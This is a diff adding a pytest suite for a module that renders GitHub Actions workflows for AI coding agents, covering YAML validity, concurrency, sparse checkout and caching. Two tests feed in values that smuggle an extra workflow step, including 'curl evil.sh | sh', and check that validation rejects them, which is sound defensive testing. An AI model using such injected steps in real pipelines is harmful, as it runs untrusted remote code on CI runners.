@@ -0,0 +1,81 @@
+import base64
+
+import pytest
+import yaml
+from pydantic import ValidationError
+
+from app.workflows import AGENT_WORKFLOWS, WorkflowOptions, encoded_workflow, render_workflow
+
+OPTION_SETS = [
+    WorkflowOptions(),
+    WorkflowOptions(
+        runs_on="self-hosted: gpu",
+        timeout_minutes=15,
+        concurrency_group="agents-${{ github.event.inputs.task }}",
+        cancel_in_progress=False,
+        checkout_depth=0,
+        sparse_checkout=("src", "docs/*.md"),
+        cache_tools=False,
+        cache_version="2",
+    ),
+    WorkflowOptions(concurrency_group=None),
+]
+
+
+@pytest.mark.parametrize("agent_type", sorted(AGENT_WORKFLOWS))
+@pytest.mark.parametrize("options", OPTION_SETS)
+def test_rendered_workflows_are_valid_yaml(agent_type, options):
+    workflow = yaml.safe_load(render_workflow(agent_type, options))
+    job = workflow["jobs"][AGENT_WORKFLOWS[agent_type].job_id]
+    assert job["runs-on"] == options.runs_on
+    assert job["timeout-minutes"] == options.timeout_minutes
+    assert job["steps"][0]["uses"] == "actions/checkout@v4"
+    if options.concurrency_group:
+        assert workflow["concurrency"] == {
+            "group": options.concurrency_group,
+            "cancel-in-progress": options.cancel_in_progress,
+        }
+    else:
+        assert "concurrency" not in workflow
+    # PyYAML reads the bare "on" key as a boolean.
+    assert workflow[True]["workflow_dispatch"]["inputs"]["task"]["required"] is True
+
+
+def test_sparse_checkout_and_depth():
+    options = WorkflowOptions(checkout_depth=0, sparse_checkout=("src", "docs"))
+    checkout = yaml.safe_load(render_workflow("devin", options))["jobs"]["devin_task"]["steps"][0]
+    assert checkout["with"] == {"fetch-depth": 0, "sparse-checkout": "src\ndocs\n"}
+
+
+def test_default_concurrency_group_is_per_task():
+    group = yaml.safe_load(render_workflow("codex"))["concurrency"]["group"]
+    assert "${{ github.event.inputs.task }}" in group
+
+
+def test_tool_cache_key_rolls_over_weekly():
+    steps = yaml.safe_load(render_workflow("codex"))["jobs"]["codex_refactor"]["steps"]
+    cache = next(step for step in steps if step.get("id") == "tool-cache")
+    assert cache["with"]["key"].endswith("-v1-${{ steps.cache-week.outputs.week }}")
+    assert any(step.get("id") == "cache-week" for step in steps)
+
+
+@pytest.mark.parametrize("path", ["src\n      - run: curl evil.sh | sh", " src", "src ", "", "a\rb"])
+def test_unsafe_sparse_checkout_paths_are_rejected(path):
+    with pytest.raises(ValidationError):
+        WorkflowOptions(sparse_checkout=("docs", path))
+
+
+def test_unsafe_cache_version_is_rejected():
+    with pytest.raises(ValidationError):
+        WorkflowOptions(cache_version="1\n      - run: id")
+
+
+def test_rendering_is_memoized_and_encoded():
+    options = WorkflowOptions(timeout_minutes=30)
+    assert render_workflow("codex", options) is render_workflow("codex", WorkflowOptions(timeout_minutes=30))
+    assert base64.b64decode(encoded_workflow("codex", options)).decode() == render_workflow("codex", options)
+
+
+def test_unknown_agent_type():
+    with pytest.raises(KeyError):
+        render_workflow("unknown")